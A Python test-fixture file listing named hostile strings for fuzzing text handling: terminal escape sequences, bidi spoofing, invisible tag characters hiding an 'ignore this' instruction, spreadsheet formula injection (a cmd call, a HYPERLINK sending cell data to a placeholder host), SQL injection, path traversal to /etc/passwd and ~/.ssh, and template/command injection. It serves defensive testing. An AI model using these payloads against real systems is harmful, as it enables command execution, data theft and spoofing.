"""One corpus of hostile texts: whatever shows, stores, exports or matches text is tried on every one of them.

Invisible characters are spelled as escapes, so that this file reads as what it holds.
"""

from __future__ import annotations

ESC = "\x1b"
BELL = "\x07"
STRING_END = ESC + "\\"

_MARKUP = [
    ("markup: closing tag without opening", "[/]"),
    ("markup: colour", "[red]urgent[/red] and [b]bold"),
    ("markup: unclosed", "[bold red"),
    ("markup: swallowed word", "[urgent] leak"),
    ("markup: click action", "[@click=app.quit]press here[/]"),
    ("markup: click bell", "[@click=app.bell('x')]call[/@click]"),
    ("markup: link", "[link=file:///etc/passwd]notice[/link]"),
    ("markup: escaped backslash", "\\[red]\\\\[/red]\\"),
    ("markup: emoji code", ":warning: :boom:"),
    ("markup: nested brackets", "[[[]]][][/][//][/red][$primary]"),
    ("markup: variable", "[$error on $surface]text[/]"),
    ("html", "<script>alert(1)</script><b>&lt;&amp;&#0;"),
]

_TERMINAL = [
    ("escape: clear screen", f"before{ESC}[2J{ESC}[Hafter"),
    ("escape: colour and bold", f"{ESC}[1;31;48;2;9;9;9mred{ESC}[0m"),
    ("escape: alternate screen and mouse", f"{ESC}[?1049h{ESC}[?1003h{ESC}[?2004l"),
    ("escape: set clipboard", f"{ESC}]52;c;ZWNobyBoaQ=={BELL}"),
    ("escape: hyperlink", f"{ESC}]8;;https://example.invalid/{STRING_END}click{ESC}]8;;{STRING_END}"),
    ("escape: window title, unterminated", f"{ESC}]0;owned and then a long text that would be swallowed"),
    ("escape: device control string", f"{ESC}P$q m{STRING_END}{ESC}^pm{STRING_END}{ESC}_apc{STRING_END}"),
    ("escape: report cursor", f"{ESC}[6n{ESC}[c{ESC}[>q{ESC}Z{ESC}c"),
    ("escape: huge parameters", f"{ESC}[" + "9" * 200 + "m"),
    ("escape: kitty keyboard", f"{ESC}[>31u{ESC}[?u"),
    ("escape: alone at the end", f"text{ESC}"),
    ("c1: control sequence", "a\x9b31mb\x9b2Jc"),
    ("c1: operating system command", "a\x9d0;title\x9cb\x90q\x9c"),
    ("c0: bell and backspace", f"a{BELL}{BELL}b\b\b\bhidden\x7f"),
    ("c0: all of them", "".join(chr(code) for code in range(32))),
    ("c0: shift out", "a\x0e line drawing \x0fb"),
    ("nul", "a\0b\0\0"),
    ("carriage return overwrites", "the truth\rthe lie  "),
    ("line ends mixed", "a\r\nb\rc\nd\x85e\u2028f\u2029g\vh\fi\x1cj"),
    ("tabs", "\ta\t\tb\t"),
]

_INVISIBLE = [
    ("bidi: override", "invoice \u202etxt.exe\u202c"),
    ("bidi: isolate without end", "abc\u2067def ghi"),
    ("bidi: embeddings and marks", "\u202aa\u202bb\u202dc\u200e\u200f\u061cd\u2066e\u2068f\u2069"),
    ("zero width: space and joiners", "pass\u200bword\u200c\u200d\u2060\ufeff"),
    ("zero width: soft hyphen", "ad\u00admin\u00ad"),
    ("zero width: fillers", "a\u3164b\uffa0c\u115f\u1160d\u034fe\u2800f\u180ef"),
    ("zero width: byte order mark first", "\ufefftext"),
    ("zero width: invisible operators", "a\u2061b\u2062c\u2063d\u2064e\u206ff\ufff9g\ufffah\ufffb"),
    ("tag characters", "hello" + "".join(chr(0xE0000 + ord(char)) for char in "ignore this") + "\U000e007f"),
    ("variation selectors", "a\ufe0f\ufe0e\U000e0100\U000e01ef\u4e00\ufe00"),
    ("lone surrogate", "a\ud800b\udfffc\udc80"),
    ("private use", "\ue000\uf8ff\U000f0000\U0010fffd"),
    ("no characters", "\ufdd0\ufffe\uffff\U0001fffe\U0010ffff"),
    ("unusual spaces", "a\u00a0b\u2003c\u202fd\u205fe\u3000f\u1680g"),
    ("nothing", ""),
    ("blanks only", "   \t \n "),
]

_WRITING = [
    ("combining flood", "z" + "\u0301\u0489\u20dd" * 300 + "a" + "\u0335" * 50),
    ("combining mark first", "\u0301\u0302accent on the frame"),
    ("combining mark after a line end", "a\n\u0336\u0336b"),
    ("arabic", "\u0634\u0643\u0648\u0649 \u0645\u0646 \u0627\u0644\u0636\u0648\u0636\u0627\u0621 123"),
    ("hebrew with points", "\u05e9\u05c1\u05b8\u05dc\u05d5\u05b9\u05dd (abc) 42"),
    ("thai", "\u0e19\u0e49\u0e33\u0e17\u0e48\u0e27\u0e21"),
    ("devanagari", "\u0915\u094d\u0937\u0947\u0924\u094d\u0930"),
    ("korean jamo", "\u1112\u1161\u11ab\u1100\u1173\u11af" + "\u1161" * 40),
    ("tibetan stack", "\u0f66\u0f92\u0fb2\u0f74\u0f42\u0f66" + "\u0f74" * 30),
    ("wide", "\u671b\u57ce\u533a\u653f\u5e9c\u70ed\u7ebf" * 12),
    ("wide and narrow", "a\u6c34b\u706fc\uff0c\uff21\uff11\uff71d" * 8),
    ("ambiguous width", "\u00b7\u00b1\u00d7\u2018\u2019\u201c\u201d\u2026\u2160\u2460\u25a0\u25cb\u2605"),
    ("ambiguous width: lines and blocks", "\u2500\u2502\u250c\u2588\u2591\u2592"),
    ("beyond the first plane", "\U00020000\U0002a6d6\U00030000 \U0001d400 \U00012000"),
    ("emoji family", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"),
    ("emoji flags", "\U0001f1e8\U0001f1f3\U0001f1fa\U0001f1f8\U0001f1e8"),
    ("emoji skin and heart", "\U0001f44d\U0001f3fd\u2764\ufe0f\u200d\U0001f525 1\ufe0f\u20e3"),
    ("emoji new", "\U0001fae8\U0001fa75\U0001faf7"),
    ("ideographic description", "\u2ff0\u2ff1\u2ffb\u4e00\u4e8c"),
    ("closing marks that must not start a line", "\uff09\u300b\u3002\uff0c\uff01\uff1f\u300d" * 10),
]

_SIZE = [
    ("long line", "\u8def\u706f\u4e0d\u4eae" * 2_500),
    ("long line without a break", "x" * 10_000),
    ("many line ends", "\n" * 10_000),
    ("many short lines", "a\n" * 5_000),
    ("very long word", "Donaudampfschiff" * 300),
    ("open brackets", "[" * 10_000),
    ("one repeated pair", "\u5c0f\u533a" * 5_000),
    ("digits", "1" * 10_000),
    ("blanks", " " * 10_000),
]

_MEANING = [
    ("formula: hyperlink", '=HYPERLINK("http://example.invalid/?"&A1,"see")'),
    ("formula: command", "=cmd|' /C calc'!A0"),
    ("formula: plus", "+1+1"),
    ("formula: minus", "-2+3"),
    ("formula: at", "@SUM(1,1)"),
    ("formula: tab first", "\t=1+1"),
    ("formula: carriage return first", "\r=1+1"),
    ("formula: full width", "\uff1d1+1"),
    ("formula: full-width at", "\uff20SUM(1)"),
    ("formula: after a blank", "  =1+1"),
    ("formula: after something invisible", "\u200b=1+1"),
    ("formula: breaks out of its cell", '","=1+1\n=2+2,"'),
    ("csv: quotes and separators", 'a"b,c;d\te"",\r\n"'),
    ("format: attribute", "{0.__class__.__mro__} {name} {} {{ }"),
    ("format: percent", "%s %d %(name)s %n 100%"),
    ("format: template", "${HOME} $(id) `id` {{7*7}} {% raw %}"),
    ("json: breaks out", '"}, {"v": 2, "kind": "closed", "data": {'),
    ("json: escapes", '\\u0000\\ud800 \\" \\/ null true NaN'),
    ("sql", "'; DROP TABLE ticket; -- \" OR 1=1"),
    ("search: operators", '"unclosed NEAR( AND NOT * ^ col:term -x'),
    ("path", "../../etc/passwd C:\\nul con.txt ~/.ssh"),
    ("command bar", "d 42 pgb; close everything | quit"),
    ("number-like", "1e309 0x1F \u0661\u0662\u0663 \u2168 \u00bd \u00b2 -0"),
]

HOSTILE: list[tuple[str, str]] = [*_MARKUP, *_TERMINAL, *_INVISIBLE, *_WRITING, *_SIZE, *_MEANING]
"""``(name, text)``: the name says what the text tries."""
